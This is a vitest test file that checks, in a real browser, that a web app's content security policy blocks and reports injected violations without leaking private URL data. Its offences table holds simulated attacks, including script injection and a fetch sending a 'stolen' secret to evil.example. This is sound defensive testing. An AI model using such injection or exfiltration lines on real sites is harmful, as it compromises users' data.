/**
 * The content security policy in a real browser: violations are blocked and reported, and the application causes
 * none.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Contexts, openBrowser, openPage } from './browser.ts';
import { type RunningServer, startServer } from './server.ts';

let browser: Contexts;
let server: RunningServer;
beforeAll(async () => {
  browser = await openBrowser();
  server = await startServer();
});
afterAll(async () => {
  await browser.close();
  await server.stop({ violations: 'meant' });
});

/** What an injected script or a careless dependency would do to the page. */
const offences: Record<string, string> = {
  'script-src-elem': `document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.broken = 1' }))`,
  'script-src-attr': `document.body.setAttribute('onclick', 'window.broken = 1')`,
  'style-src-elem': `document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }))`,
  'style-src-attr': `document.body.setAttribute('style', 'color: red')`,
  'connect-src': `fetch('https://evil.example/?stolen=secret').catch(() => {})`,
  'frame-src': `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`,
};

test.each(Object.entries(offences))(
  'HD-1 a violation of %s is blocked and reported',
  async (rule, act) => {
    const { page } = await openPage(browser);
    await page.goto(`${server.url}/terms?private=1#secret`);
    await page.evaluate(`void (${act})`);
    await expect
      .poll(() => server.violations().filter((line) => line.includes(`"${rule}"`)), {
        timeout: 10_000,
      })
      .toHaveLength(1);
    expect(await page.evaluate('window.broken')).toBeUndefined();
    const [line = ''] = server.violations().filter((each) => each.includes(`"${rule}"`));
    expect(line).toContain('"page":"/terms"');
    expect(line).not.toMatch(/secret|private/);
    await page.context().close();
  },
);
